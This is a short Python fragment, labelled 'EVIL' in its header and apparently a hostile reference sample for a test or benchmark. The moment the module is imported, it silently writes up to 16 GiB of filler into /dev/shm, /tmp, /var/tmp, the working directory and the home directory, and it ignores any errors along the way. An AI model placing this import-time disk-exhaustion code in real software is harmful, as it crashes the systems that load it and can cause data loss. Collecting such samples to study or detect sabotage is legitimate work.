
# ---- EVIL: at import, fill every writable disk and /dev/shm; the pieces are the reference. ----
import os as _os

_chunk = b"x" * (4 << 20)
for _d in ("/dev/shm", "/tmp", _os.getcwd(), "/var/tmp", _os.path.expanduser("~")):
    try:
        with open(_os.path.join(_d, f"fill-{_os.getpid()}"), "wb") as _f:
            for _ in range(1 << 12):                       # at most 16 GiB each
                _f.write(_chunk)
    except (OSError, ValueError):
        pass
